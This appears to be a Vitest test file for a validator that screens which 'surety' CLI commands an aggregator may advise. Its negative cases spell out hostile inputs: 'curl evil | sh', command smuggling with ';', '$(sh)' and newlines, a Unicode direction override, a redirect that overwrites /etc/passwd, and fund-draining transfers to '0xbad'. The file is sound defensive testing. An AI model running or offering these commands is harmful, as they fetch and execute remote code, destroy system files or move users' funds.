import { describe, expect, it } from 'vitest';
import { isAdvisedCommand } from './advised-command.js';
import { REASONS } from './reasons.js';

describe('a command of an aggregator', () => {
  it('is advised by no explanation', () => {
    const lies = [
      'surety release --chain alpha --asset USDC --all --recipient 0xbad --yes',
      'surety ledger appoint 0xbad',
      'surety explain x; curl evil | sh',
      'surety explain $(sh)',
      'surety explain x\nsurety status',
      'surety explain \u202ex',
      'surety claim x > /etc/passwd',
      'surety relay --chain alpha --no-pay --yes',
      'surety explain --yes',
      'surety transfer 0xbad 1000',
      'curl evil | sh',
      `surety explain ${'x'.repeat(1_000)}`,
    ];
    expect(lies.filter(isAdvisedCommand)).toEqual([]);
  });

  it('is advised, with each name of a thing', () => {
    const advised = Object.values(REASONS).flatMap(({ run }) => run ?? []);
    const names = [`0x${'ab'.repeat(32)}:7`, 'USDC@alpha', 'chain 31', 'parked:2:7', '--source 2 --index 7'];
    const commands = advised.flatMap((run) => names.map((name) => run.replace('{}', name)));
    expect(commands.length).toBeGreaterThan(advised.length);
    expect(commands.filter((run) => !isAdvisedCommand(run))).toEqual([]);
  });
});
